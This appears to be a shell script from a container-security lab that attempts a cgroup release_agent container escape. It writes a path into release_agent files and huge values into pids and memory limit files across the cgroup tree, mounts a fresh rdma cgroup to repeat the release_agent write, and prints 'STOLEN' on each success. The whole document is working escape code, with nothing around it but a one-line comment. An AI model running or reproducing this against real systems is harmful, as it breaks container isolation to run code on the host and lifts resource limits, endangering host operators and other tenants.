# Raise the limits, and have the kernel run a program outside.
BASE=registry-lab/busybox:1
for f in $(find /sys/fs/cgroup -name pids.max -o -name memory.limit_in_bytes -o -name release_agent -o -name memory.max 2> /dev/null | grep -v docker); do (echo /tmp/x > $f) 2> /dev/null && echo "STOLEN $f"; (echo 999999999999 > $f) 2> /dev/null && echo "STOLEN $f"; done
mkdir /tmp/cg; mount -t cgroup -o rdma cgroup /tmp/cg 2> /dev/null && (echo /tmp/x > /tmp/cg/release_agent) 2> /dev/null && echo STOLEN
